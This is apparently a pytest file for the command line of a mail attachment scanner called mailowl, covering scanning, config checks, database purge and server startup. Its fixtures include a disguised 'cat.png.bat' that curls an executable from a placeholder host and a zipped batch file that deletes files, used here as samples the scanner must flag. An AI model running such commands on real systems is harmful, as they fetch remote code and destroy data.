"""The command line, run as a user runs it."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path

from .server import Server


def mailowl(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mailowl.cli", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=120)


def test_scan_directory_tree_json_and_exit_status(tmp_path: Path) -> None:
    tree = tmp_path / "mail"
    (tree / "sub").mkdir(parents=True)
    (tree / "notes.txt").write_text("meeting at noon, bring the slides please\n")
    (tree / "sub" / "cat.png.bat").write_bytes(b"@echo off\r\ncurl http://x.invalid/a.exe\r\n")
    with zipfile.ZipFile(tree / "sub" / "bundle.zip", "w") as zf:
        zf.writestr("inner/run.cmd", "@echo off\r\ndel /q *\r\n")
    result = mailowl("scan", "--json", str(tree))
    assert result.returncode == 1, result.stderr
    rows = {Path(r["path"]).name: r for r in json.loads(result.stdout)}
    assert rows["cat.png.bat"]["result"] == "bad"
    assert rows["bundle.zip"]["result"] == "bad" and "run.cmd" in rows["bundle.zip"]["reason"]
    assert rows["notes.txt"]["result"] == "ignored"
    assert rows["notes.txt"]["rules"][-1]["rule"] == "file_type_on_whitelist"


def test_scan_table_and_clean_exit(tmp_path: Path) -> None:
    (tmp_path / "ok.txt").write_text("just words in a file\n")
    result = mailowl("scan", str(tmp_path / "ok.txt"), str(tmp_path / "missing.bin"))
    assert result.returncode == 0, result.stderr
    assert "ok.txt" in result.stdout and "ignored" in result.stdout
    assert "missing.bin" in result.stdout and "failed" in result.stdout


def test_check_config(tmp_path: Path) -> None:
    good = mailowl("check-config")
    assert good.returncode == 0 and "configuration ok" in good.stdout
    (tmp_path / "mailowl.toml").write_text('[server]\nlisten = "everywhere"\n')
    bad = mailowl("check-config", "--config", str(tmp_path / "mailowl.toml"))
    assert bad.returncode == 2 and "[server] listen: expected HOST:PORT" in bad.stderr
    (tmp_path / "r.conf").write_text("[rules]\nrule.1 : expressions\n[expressions]\nexpression.1 : 1 == * 2 -> bad\n")
    bad = mailowl("check-config", "--ruleset", str(tmp_path / "r.conf"))
    assert bad.returncode == 2 and "expression (0)" in bad.stderr and "line 1, column 6" in bad.stderr


def test_db_purge_and_upgrade(tmp_path: Path) -> None:
    srv = Server(tmp_path)
    try:
        status, payload, _ = srv.scan(b"some bytes to remember", "a.bin")
        srv.verdict(payload["job_id"])
    finally:
        srv.stop()
    config = tmp_path / "mailowl.toml"
    config.write_text(f'[server]\ndata_dir = "{tmp_path / "data"}"\n[store]\npurge_min_age = 0\n')
    assert mailowl("db", "upgrade", "--config", str(config)).returncode == 0
    kept = mailowl("db", "purge", "--older-than", "30d", "--config", str(config))
    assert kept.returncode == 0 and "deleted 0" in kept.stdout
    gone = mailowl("db", "purge", "--older-than", "0s", "--config", str(config))
    assert gone.returncode == 0 and "deleted 1" in gone.stdout
    wrong = mailowl("db", "purge", "--older-than", "soon", "--config", str(config))
    assert wrong.returncode == 2 and "--older-than" in wrong.stderr


def test_serve_refuses_a_bad_ruleset(tmp_path: Path) -> None:
    (tmp_path / "r.conf").write_text("[rules]\nrule.1 : nonsense\n")
    result = mailowl("serve", "--ruleset", str(tmp_path / "r.conf"), "--listen", "127.0.0.1:1")
    assert result.returncode == 2 and "unknown rule 'nonsense'" in result.stderr


def test_a_reader_that_goes_away_stops_output_quietly(tmp_path: Path) -> None:
    for i in range(300):
        (tmp_path / f"note{i}.txt").write_text(f"note {i}\n" * 20)
    shell = f"{sys.executable} -m mailowl.cli scan --json {tmp_path} | head -c 100"
    result = subprocess.run(["bash", "-o", "pipefail", "-c", shell], capture_output=True, text=True, timeout=300)
    assert len(result.stdout) == 100
    assert "Traceback" not in result.stderr and "BrokenPipeError" not in result.stderr, result.stderr
